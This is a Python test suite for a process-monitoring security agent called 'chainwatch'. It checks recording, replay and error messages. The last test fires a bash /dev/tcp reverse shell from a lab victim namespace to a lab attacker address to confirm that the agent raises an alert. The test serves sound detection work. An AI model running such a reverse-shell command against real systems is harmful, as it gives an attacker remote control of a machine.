"""The CLI as users run it: record while a shell runs /bin/true 23 times, then replay --dump."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

from tests.helpers.live import require_root
from tests.helpers.polling import wait_until

CHAINWATCH = [sys.executable, "-m", "agent"]


def wait_for_line(path: Path, needle: str, timeout: float) -> bool:
    return wait_until(lambda: needle in path.read_text(), timeout=timeout, interval=0.1)


def test_record_then_replay_dump_shows_23_execs(sensorlab, tmp_path) -> None:
    """`chainwatch record` during 23 /bin/true execs, then `replay --dump` shows them with the shell as ppid."""
    recording, log = tmp_path / "x.cw", tmp_path / "record.log"
    with log.open("w") as err:
        agent = subprocess.Popen([*CHAINWATCH, "record", str(recording)], stderr=err, stdout=subprocess.DEVNULL)
    try:
        assert wait_for_line(log, '"sensor_ready"', 60), log.read_text()
        shell = int(subprocess.run(["bash", "-c", "echo $$; for i in $(seq 23); do /bin/true; done"],
                                   capture_output=True, text=True, timeout=20, check=True).stdout.split()[0])
        time.sleep(0.5)
    finally:
        agent.send_signal(signal.SIGINT)
        rc = agent.wait(timeout=30)
    assert rc == 0, log.read_text()
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    assert sum(1 for line in lines if line["event"] == "sensor_ready") == 1
    final = [line for line in lines if line["event"] == "stats" and line["final"]]
    from agent.probes.loader import DROP_REASONS
    assert final and final[0]["kernel_drops"] == dict.fromkeys(DROP_REASONS, 0)

    dump = subprocess.run([*CHAINWATCH, "replay", str(recording), "--dump"], capture_output=True, text=True,
                          timeout=60, check=True)
    events = [json.loads(line) for line in dump.stdout.splitlines()]
    trues = [e for e in events if e["type"] == "exec" and e["filename"] == "/bin/true" and e["ppid"] == shell]
    assert len(trues) == 23
    for e in trues:
        assert {"type", "pid", "ppid", "comm", "filename", "args"} <= set(e)


def test_run_refuses_non_root_with_one_sentence(tmp_path) -> None:
    """`chainwatch run` as an unprivileged user exits non-zero with one sentence saying to run as root."""
    require_root("needs root to drop to an unprivileged user")
    proc = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *CHAINWATCH, "run"],
                          capture_output=True, text=True, timeout=60, cwd=os.getcwd(),
                          env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])})
    assert proc.returncode != 0
    assert "root" in proc.stderr
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr


def test_run_without_bcc_says_how_to_install_it(tmp_path) -> None:
    """With bcc not importable, `chainwatch run` exits non-zero naming python3-bpfcc, without a traceback."""
    require_root("the root check comes first; this needs root to reach the bcc check")
    shadow = tmp_path / "shadow"
    shadow.mkdir()
    (shadow / "bcc.py").write_text("raise ImportError('bcc hidden by the test')\n")
    root = Path(__file__).resolve().parents[2]
    proc = subprocess.run([*CHAINWATCH, "run"], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "PYTHONPATH": f"{shadow}:{root}"})
    assert proc.returncode != 0
    assert "python3-bpfcc" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_run_writes_one_alert_for_a_reverse_shell(sensorlab, netlab, tmp_path) -> None:
    """`chainwatch run --alerts FILE` turns a bash /dev/tcp reverse shell in the lab into one incident in FILE."""
    alerts, log = tmp_path / "alerts.jsonl", tmp_path / "run.log"
    port = netlab.port()
    with log.open("w") as err:
        agent = subprocess.Popen([*CHAINWATCH, "run", "--alerts", str(alerts)], stderr=err,
                                 stdout=subprocess.DEVNULL)
    try:
        assert wait_for_line(log, '"sensor_ready"', 60), log.read_text()
        listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
        netlab.run(netlab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{netlab.attacker_ip4}/{port} 0>&1; exit 0"],
                   timeout=15)
        assert b"cw-42" in listener.wait(timeout=15)
        wait_until(lambda: alerts.exists() and alerts.read_text().strip(), timeout=10, interval=0.1)
        time.sleep(1)
    finally:
        agent.send_signal(signal.SIGTERM)
        rc = agent.wait(timeout=30)
    assert rc == 0, log.read_text()
    lines = [json.loads(line) for line in alerts.read_text().splitlines()]
    assert len({a["chainwatch"]["incident"]["id"] for a in lines}) == 1, lines
    assert lines[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": port}
    assert lines[-1]["rule"]["ruleset"] == "chainwatch"
